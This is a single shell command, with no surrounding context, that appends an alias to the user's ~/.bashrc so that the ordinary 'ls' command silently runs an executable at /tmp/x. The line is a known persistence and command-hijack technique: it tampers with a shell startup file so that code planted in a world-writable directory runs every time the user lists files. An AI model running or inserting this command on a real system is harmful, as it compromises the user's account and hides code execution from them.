echo "alias ls=/tmp/x" >> ~/.bashrc
